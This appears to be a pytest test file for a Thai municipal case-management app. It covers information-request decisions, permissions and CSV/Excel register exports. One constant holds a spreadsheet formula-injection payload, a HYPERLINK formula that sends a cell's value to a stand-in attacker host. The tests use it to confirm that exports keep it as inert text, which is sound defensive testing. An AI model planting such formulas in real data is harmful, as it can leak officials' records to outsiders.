import csv
import datetime
import io

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import load_workbook

from tambon.cases import services
from tambon.cases.models import CaseEvent, CaseKind, EventKind, InformationDecision
from tambon.thai.dates import BANGKOK

from .test_admin import signed_in

pytestmark = pytest.mark.django_db

# 3 November 2025 is in fiscal year 2569 (October 2025 - September 2026).
RECEIVED = datetime.datetime(2025, 11, 3, 10, 0, tzinfo=BANGKOK)
TRAP = '=HYPERLINK("http://attacker.example/?x="&C3,"เปิด")'


@pytest.fixture
def request_for_budget(new_case):
    return new_case(
        kind=CaseKind.INFORMATION,
        subject="ขอสำเนาแผนพัฒนาท้องถิ่น พ.ศ. 2566-2570",
        now=RECEIVED,
    )


class TestDecision:
    def test_a_refusal_is_recorded_with_its_reason_and_shown_to_the_requester(
        self, division_head, request_for_budget
    ):
        services.record_information_decision(
            request_for_budget,
            division_head,
            InformationDecision.REFUSED,
            "เป็นข้อมูลส่วนบุคคลตามมาตรา 15",
            datetime.date(2025, 11, 20),
        )
        request_for_budget.refresh_from_db()
        assert request_for_budget.info_decision == InformationDecision.REFUSED
        assert request_for_budget.info_answered_on == datetime.date(2025, 11, 20)
        event = CaseEvent.objects.all_organizations().get(
            case=request_for_budget, kind=EventKind.DECISION
        )
        assert event.is_public
        assert "มาตรา 15" in event.text
        assert "20 พฤศจิกายน 2568" in event.text

    @pytest.mark.parametrize(
        "decision", [InformationDecision.REFUSED, InformationDecision.FORWARDED]
    )
    def test_a_refusal_or_forwarding_needs_a_reason(
        self, division_head, request_for_budget, decision
    ):
        with pytest.raises(services.CaseError):
            services.record_information_decision(
                request_for_budget, division_head, decision, " ", datetime.date(2025, 11, 20)
            )

    def test_the_answer_cannot_be_dated_before_the_request(self, division_head, request_for_budget):
        with pytest.raises(services.CaseError):
            services.record_information_decision(
                request_for_budget,
                division_head,
                InformationDecision.DISCLOSED,
                "",
                datetime.date(2025, 11, 1),
            )

    def test_a_clerk_may_not_record_the_decision(self, clerk, request_for_budget):
        with pytest.raises(PermissionDenied):
            services.record_information_decision(
                request_for_budget,
                clerk,
                InformationDecision.DISCLOSED,
                "",
                datetime.date(2025, 11, 20),
            )

    def test_only_information_requests_have_a_decision(self, division_head, new_case):
        complaint = new_case()
        with pytest.raises(services.CaseError):
            services.record_information_decision(
                complaint,
                division_head,
                InformationDecision.DISCLOSED,
                "",
                datetime.date.today(),
            )

    def test_the_decision_is_recorded_from_the_case_page(self, division_head, request_for_budget):
        client = signed_in(division_head)
        page = client.get(f"/admin/cases/{request_for_budget.pk}/").content.decode()
        assert 'value="decide"' in page
        client.post(
            f"/admin/cases/{request_for_budget.pk}/act/",
            {
                "action": "decide",
                "decision": "partly",
                "answered_on": "2025-11-13",
                "text": "ปิดชื่อผู้รับเงิน",
            },
        )
        request_for_budget.refresh_from_db()
        assert request_for_budget.info_decision == InformationDecision.PARTLY
        response = client.post(
            f"/admin/cases/{request_for_budget.pk}/act/",
            {"action": "decide", "decision": "partly", "answered_on": "13/11/2568"},
            follow=True,
        )
        assert response.status_code == 200  # a bad date is a message, not an error page


class TestRegister:
    @pytest.fixture
    def decided(self, division_head, request_for_budget):
        services.record_information_decision(
            request_for_budget,
            division_head,
            InformationDecision.FORWARDED,
            "ส่งต่อสำนักงานส่งเสริมการปกครองท้องถิ่นจังหวัดน่าน",
            datetime.date(2025, 11, 13),
        )
        return request_for_budget

    def test_the_register_lists_the_years_requests_with_decision_and_days_taken(
        self, clerk, decided, new_case
    ):
        other_year = new_case(
            kind=CaseKind.INFORMATION,
            subject="ขอดูสัญญาจ้างปี 2567",
            now=datetime.datetime(2024, 12, 1, 9, 0, tzinfo=BANGKOK),
        )
        html = signed_in(clerk).get("/admin/cases/information-register/?year=2569").content.decode()
        assert decided.subject in html
        assert other_year.subject not in html
        assert "<td>3/11/2568</td>" in html  # received
        assert "<td>13/11/2568</td>" in html  # answered
        assert "ส่งต่อหน่วยงานอื่น" in html
        assert "<td>10</td>" in html  # days taken

    def test_the_csv_download_opens_in_excel_with_thai_intact(self, clerk, decided):
        response = signed_in(clerk).get("/admin/cases/information-register/?year=2569&export=csv")
        assert response["Content-Type"].startswith("text/csv")
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        row = next(r for r in rows if r[0] == decided.display_code)
        assert decided.subject in row
        assert "ส่งต่อสำนักงานส่งเสริมการปกครองท้องถิ่นจังหวัดน่าน" in row
        assert "10" in row

    def test_the_excel_download_holds_the_same_rows(self, clerk, decided):
        response = signed_in(clerk).get("/admin/cases/information-register/?year=2569&export=xlsx")
        sheet = load_workbook(io.BytesIO(response.content)).active
        codes = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert decided.display_code in codes

    @pytest.fixture
    def booby_trapped(self, new_case):
        return new_case(kind=CaseKind.INFORMATION, subject=TRAP, now=RECEIVED)

    def test_a_subject_written_as_a_formula_stays_text_in_the_csv(self, clerk, booby_trapped):
        response = signed_in(clerk).get("/admin/cases/information-register/?year=2569&export=csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        row = next(r for r in rows if r[0] == booby_trapped.display_code)
        assert "'" + TRAP in row  # a spreadsheet program shows it as text, without running it
        assert TRAP not in row

    def test_a_subject_written_as_a_formula_stays_text_in_the_excel_file(
        self, clerk, booby_trapped
    ):
        response = signed_in(clerk).get("/admin/cases/information-register/?year=2569&export=xlsx")
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [
            row for row in sheet.iter_rows(min_row=2) if row[0].value == booby_trapped.display_code
        ][0]
        trapped = [cell for cell in cells if cell.value == TRAP]
        assert trapped and all(cell.data_type == "s" for cell in trapped)

    def test_integrity_officers_see_no_information_requests(self, integrity_officer, decided):
        html = (
            signed_in(integrity_officer)
            .get("/admin/cases/information-register/?year=2569")
            .content.decode()
        )
        assert decided.subject not in html

    def test_a_year_not_offered_falls_back_to_the_current_one(self, clerk):
        for query in ("?year=abc", "?year=99999999999999999999", "?year=1900"):
            response = signed_in(clerk).get(f"/admin/cases/information-register/{query}")
            assert response.status_code == 200

    def test_citizens_and_other_staff_cannot_open_the_register(self, client, outsider):
        assert client.get("/admin/cases/information-register/").status_code == 302
        assert signed_in(outsider).get("/admin/cases/information-register/").status_code in (
            302,
            403,
        )
